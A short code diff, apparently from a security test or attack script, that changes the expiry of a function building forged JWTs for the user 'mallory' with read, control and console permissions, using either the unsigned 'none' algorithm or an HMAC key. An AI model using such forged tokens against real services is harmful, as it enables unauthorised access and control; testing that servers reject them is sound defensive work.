@@ -47,7 +47,7 @@ def b64(raw: bytes) -> str:
 
 def forged(alg: str, key: bytes) -> str:
     now = int(time.time())
-    body = {"sub": "mallory", "exp": now + 600, "aud": AUD, "iss": ISS, "permissions": ["read", "control", "console"]}
+    body = {"sub": "mallory", "exp": now + 3600, "aud": AUD, "iss": ISS, "permissions": ["read", "control", "console"]}
     head = b64(json.dumps({"alg": alg, "typ": "JWT"}).encode()) + "." + b64(json.dumps(body).encode())
     sig = "" if alg == "none" else b64(hmac.new(key, head.encode(), hashlib.sha256).digest())
     return head + "." + sig
